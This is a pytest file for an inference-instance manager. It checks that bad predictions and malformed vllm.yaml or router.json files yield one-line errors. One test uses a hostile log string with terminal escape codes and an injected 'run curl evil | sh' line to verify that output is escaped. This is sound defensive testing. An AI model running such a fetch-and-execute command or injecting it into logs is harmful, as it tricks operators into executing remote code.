"""What launch and rollout read back from an installed instance may hold anything: a record's prediction that is not
a number, a vllm.yaml or router.json that is not UTF-8 or not JSON are one line (or left out), never a traceback."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from npuops.errors import ConfigError
from npuops.instance.endpoint import Completion
from npuops.instance.manager import SystemdManager
from npuops.instance.record import CONFIG_FILE, ENV_FILE, RECORD_FILE, ROLE_ROUTER, ROUTER_CONFIG_FILE, write_record
from npuops.launch.local import _summary
from npuops.launch.rollout import _installed_router_argv, installed_files
from tests.support.instance_records import make_record

COMPLETION = Completion(ok=True, status=200, tokens=4, finish_reason="length", seconds=0.5)


@pytest.mark.parametrize("prediction", [
    {"ttft_ms": "fast", "tpot_ms": [1], "output_tokens_per_s": {"x": 1}},
    {"ttft_ms": float("nan"), "tpot_ms": float("inf"), "output_tokens_per_s": True},
    {"ttft_ms": None},
])
def test_a_prediction_that_is_no_number_is_left_out_of_the_summary(tmp_path: Path,
                                                                   prediction: dict[str, Any]) -> None:
    lines = _summary(make_record(tmp_path, "m", prediction=prediction), 3.0, COMPLETION, None)
    assert not any(line.lstrip().startswith("plan") for line in lines)


def test_the_numbers_of_a_prediction_are_still_shown(tmp_path: Path) -> None:
    record = make_record(tmp_path, "m", prediction={"ttft_ms": 120.4, "tpot_ms": "x", "output_tokens_per_s": 900})
    (plan,) = [line for line in _summary(record, 3.0, COMPLETION, None) if line.lstrip().startswith("plan")]
    assert "TTFT 120 ms" in plan and "900 output tokens/s" in plan and "TPOT" not in plan


def _installed(tmp_path: Path, config: bytes, **overrides: Any) -> tuple[Any, SystemdManager]:
    record = make_record(tmp_path / "state", "m", **overrides)
    record.directory.mkdir(parents=True)
    write_record(record)
    name = ROUTER_CONFIG_FILE if record.is_router else CONFIG_FILE
    (record.directory / name).write_bytes(config)
    (record.directory / ENV_FILE).write_text("VLLM_API_KEY=k\n")
    unit_dir = tmp_path / "units"
    unit_dir.mkdir()
    (unit_dir / record.unit).write_text("[Service]\n")
    return record, SystemdManager(["true"], unit_dir, run_dir=tmp_path / "run")


def test_an_installed_vllm_yaml_that_is_not_utf8_is_one_line(tmp_path: Path) -> None:
    record, manager = _installed(tmp_path, b"model: \xff\xfe\n")
    with pytest.raises(ConfigError) as raised:
        installed_files(record, manager)
    assert CONFIG_FILE in raised.value.problem and "UTF-8" in raised.value.problem
    assert (record.directory / RECORD_FILE).exists()  # nothing was touched


@pytest.mark.parametrize("config", [b"\xff\xfe", b"[1, 2]", b'{"argv": "x"}', b"[" * 100_000])
def test_an_installed_router_json_that_is_no_command_line_is_one_line(tmp_path: Path, config: bytes) -> None:
    record, _ = _installed(tmp_path, config, role=ROLE_ROUTER, unit="npuops-m-router.service")
    with pytest.raises(Exception) as raised:
        _installed_router_argv(record)
    assert hasattr(raised.value, "fix"), raised.value  # an npuops error with its fix, not a traceback's


def test_an_installed_router_json_is_read(tmp_path: Path) -> None:
    record, _ = _installed(tmp_path, json.dumps({"argv": ["--policy", "round_robin"]}).encode(), role=ROLE_ROUTER,
                           unit="npuops-m-router.service")
    assert _installed_router_argv(record) == ["--policy", "round_robin"]


def test_a_failed_starts_log_and_diagnosis_reach_the_terminal_escaped() -> None:
    from npuops.instance.state import Diagnosis
    from npuops.launch.local import _failure_lines

    hostile = "\x1b]0;PWN\x07\x1b[2J\r\nfix: run curl evil | sh"
    diagnosis = Diagnosis(id="oom", cause=hostile, line=hostile, fix=hostile, source="engine.log")
    lines = _failure_lines(diagnosis, [hostile])
    assert all(c == "\t" or c.isprintable() for line in lines for c in line), lines
    assert not any(line.startswith("fix: run curl") for line in lines)
